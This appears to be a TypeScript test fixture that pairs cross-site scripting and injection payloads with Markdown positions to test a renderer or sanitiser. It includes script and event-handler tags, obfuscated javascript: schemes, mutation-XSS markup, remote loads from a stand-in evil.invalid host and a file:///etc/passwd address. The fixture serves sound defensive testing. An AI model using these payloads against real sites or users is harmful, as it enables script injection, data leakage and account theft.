/**
 * Hostile strings and the places where a person or a model can put them. The payloads cover the kinds in the published lists (OWASP filter
 * evasion, PortSwigger, html5sec): elements, handlers, schemes, encodings, broken markup, name clashes, style and loading. Every payload
 * calls `trap()` if it ever runs, or requests `evil.invalid` if it ever loads.
 */
const call = 'window.trap()';

const elements = [
  `<script>${call}</script>`,
  `<script src=//evil.invalid/a.js></script>`,
  `<ScRiPt\n>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `<img src="https://evil.invalid/pixel.gif">`,
  `<img/src="x"/onerror="${call}">`,
  `<img srcset="https://evil.invalid/a 1x" onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="https://evil.invalid/a#b"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.trap()</script>"></iframe>`,
  `<object data="https://evil.invalid/a"></object>`,
  `<embed src="https://evil.invalid/a">`,
  `<video src="https://evil.invalid/a" onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<form action="https://evil.invalid"><button>x</button></form>`,
  `<base href="https://evil.invalid/">`,
  `<link rel=stylesheet href="https://evil.invalid/a.css">`,
  `<link rel=preload as=image href="https://evil.invalid/a.png">`,
  `<link rel=dns-prefetch href="//evil.invalid">`,
  `<meta http-equiv=refresh content="0;url=https://evil.invalid">`,
  `<style>@import "https://evil.invalid/a.css"; * { background: url(https://evil.invalid/b) }</style>`,
  `<p style="background:url(https://evil.invalid/c)">x</p>`,
  `<a href="javascript:${call}" id=trap name=trap>x</a>`,
  `<a href=x onmouseover=${call} onclick=${call}>x</a>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `"><img src=x onerror=${call}>`,
  `'><svg/onload=${call}>`,
  `</textarea><script>${call}</script>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><x onload=${call}>`,
  `<picture><source srcset="https://evil.invalid/p"><img></picture>`,
  `<table background="https://evil.invalid/t"><td>x`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&#58;${call}`,
  `\u0001javascript:${call}`,
  `javascript://evil.invalid/%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `vbscript:${call}`,
  `//evil.invalid/x`,
  `https://evil.invalid/?q=secret`,
  `blob:https://evil.invalid/1`,
  `file:///etc/passwd`,
  `feed:javascript:${call}`,
];

export const payloads: readonly string[] = [...elements, ...addresses];

/** The payload on its own, and as each part of Markdown that can hold it. */
const positions: readonly (readonly [string, (payload: string) => string])[] = [
  ['as is', (payload) => payload],
  ['inside a sentence', (payload) => `Before ${payload} after.`],
  ['link target', (payload) => `[words](<${payload}>)`],
  ['bare link target', (payload) => `[words](${payload})`],
  ['link words', (payload) => `[${payload}](https://a.example)`],
  ['link title', (payload) => `[words](https://a.example "${payload}")`],
  ['image target', (payload) => `![words](<${payload}>)`],
  ['image words', (payload) => `![${payload}](https://evil.invalid/i.png)`],
  ['reference', (payload) => `![words][r] and [words][r]\n\n[r]: <${payload}>`],
  ['autolink', (payload) => `<${payload}>`],
  ['heading', (payload) => `# ${payload}`],
  ['table cell', (payload) => `| a |\n| - |\n| ${payload.replaceAll('|', '\\|').replaceAll('\n', ' ')} |`],
  ['list in a quote', (payload) => `> - ${payload}`],
  ['language of a code block', (payload) => `\`\`\`${payload}\ncode\n\`\`\``],
  ['code block', (payload) => `\`\`\`html\n${payload}\n\`\`\``],
  ['footnote', (payload) => `text[^1]\n\n[^1]: ${payload}`],
  ['citation definition', (payload) => `Claim [1].\n\n[1]: <${payload}>`],
];

export const hostileTexts: readonly { readonly name: string; readonly markdown: string }[] = payloads.flatMap(
  (payload) => positions.map(([name, place]) => ({ name: `${name}: ${payload}`, markdown: place(payload) })),
);
